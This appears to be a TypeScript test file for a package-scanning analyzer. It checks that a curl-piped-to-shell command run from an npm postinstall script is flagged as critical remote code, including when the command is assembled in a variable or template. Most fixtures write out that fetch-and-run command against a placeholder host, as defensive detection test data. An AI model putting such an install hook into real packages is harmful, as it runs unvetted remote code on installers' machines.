/**
 * A command assembled in a local variable before it is run (`const c = 'curl …' + u; exec(c)`) is
 * read from where it was built: the download-and-run shape is seen as when the string is written
 * inside the call. Only a declaration before the use, in a function around it, is read; a harmless
 * command stays an ordinary exec.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeContent } from '../../src/analyzers/content/index.js';
import { parseJs } from '../../src/analyzers/content/js-parse.js';
import { recordWalk, replay } from '../../src/analyzers/content/ast-walk.js';
import { LocalStrings } from '../../src/analyzers/content/behaviour/local-strings.js';
import type { AstNode } from '../../src/analyzers/content/js-parse.js';
import { filesOf } from './helpers.js';

const installRun = async (code: string) =>
  (
    await analyzeContent(
      filesOf({
        'package.json': JSON.stringify({ name: 'p', version: '1.0.0', scripts: { postinstall: 'node install.js' } }),
        'install.js': code,
      }),
      'pkg:npm/p@1.0.0',
    )
  ).findings
    .filter((f) => f.rule !== 'content/install-capabilities')
    .map((f) => `${f.rule}:${f.severity}`)
    .sort();

const HEAD = "const { exec, execSync } = require('child_process');\nconst host = 'https://cdn.example.invalid';\n";

test('a download piped to a shell, built in a variable and then run, is remote code like the inline command', async () => {
  const inline = await installRun(`${HEAD}exec('curl -fsSL ' + host + '/setup.sh | sh');\n`);
  assert.deepEqual(inline, ['content/remote-code:critical']);
  assert.deepEqual(await installRun(`${HEAD}const cmd = 'curl -fsSL ' + host + '/setup.sh | sh';\nexec(cmd, () => {});\n`), inline);
  assert.deepEqual(
    await installRun(`${HEAD}const url = host + '/setup.sh';\nlet cmd = \`curl -fsSL \${url} | sh\`;\nexecSync(cmd);\n`),
    inline,
    'through a template and a second name',
  );
});

test('a harmless command in a variable, or a name declared elsewhere, is not read as a download', async () => {
  assert.deepEqual(await installRun(`${HEAD}const cmd = 'git rev-parse HEAD';\nexecSync(cmd);\n`), []);
  // The download command lives in another function: the call's `cmd` is its own parameter.
  assert.deepEqual(
    await installRun(
      `${HEAD}function a() { const cmd = 'curl ' + host + ' | sh'; return cmd; }\nfunction b(cmd) { exec(cmd); }\nb('ls');\n`,
    ),
    [],
  );
  // Declared after the call: not what the call ran.
  assert.deepEqual(await installRun(`${HEAD}function b() { exec(cmd); }\nb();\nvar cmd = 'curl ' + host + ' | sh';\n`), []);
});

test('LocalStrings: the text of names, concatenations and templates; unknown parts empty; bounded depth', () => {
  const code = "const a = 'x' + y + 'z'; const b = `<${a}>`; const c = b; const d = c; const e = d; const f = e; g(a, b, c, f, y);";
  const walk = recordWalk(parseJs(code)!.ast);
  const locals = new LocalStrings();
  let call: AstNode | undefined;
  replay(walk, {
    VariableDeclarator: (n) => locals.declare(n),
    Function: (n) => locals.fn(n.start, n.end),
    CallExpression: (n) => (call = n),
  });
  const args = call!.arguments as AstNode[];
  assert.deepEqual(
    args.map((a) => locals.text(a)),
    ['xz', '<xz>', '<xz>', undefined, undefined],
  );
});
